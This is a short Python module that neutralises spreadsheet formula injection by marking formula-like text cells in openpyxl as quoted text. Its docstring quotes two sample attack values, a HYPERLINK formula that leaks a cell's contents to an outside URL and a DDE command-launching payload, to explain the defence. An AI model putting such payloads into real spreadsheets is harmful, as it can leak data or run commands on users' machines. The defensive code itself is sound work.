"""Text in spreadsheets stays text: never read as a formula (OWASP, CSV/formula injection).

A citizen's title such as ``=HYPERLINK("http://…?leak="&A2,"点击查看")`` or ``=cmd|' /C calc'!A0``
must reach the ledger's reader as those characters. openpyxl stores any string beginning with
``=`` as a formula; Excel and LibreOffice also start one at ``+``, ``-`` and ``@``, and tab or
CR in front hides the rest. Such cells are written as text (cell type ``s``) with Excel's quote
prefix — what typing a leading apostrophe does — so the text is unchanged, shown as typed and
stays text when the cell is edited. The server's ledger and the desk's exports both use this.
Pure: the cells are duck-typed (openpyxl's ``Cell``), nothing is imported.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def formula_like(value: object) -> bool:
    """Whether a spreadsheet could read this value as a formula."""
    return isinstance(value, str) and value.startswith(FORMULA_TRIGGERS)


def keep_as_text(rows: Iterable[Iterable[Any]]) -> int:
    """Mark every formula-like text cell of ``rows`` (openpyxl cells) as text; how many were."""
    marked = 0
    for row in rows:
        for cell in row:
            if formula_like(cell.value):
                cell.data_type = "s"
                cell.quotePrefix = True
                marked += 1
    return marked


__all__ = ["FORMULA_TRIGGERS", "formula_like", "keep_as_text"]
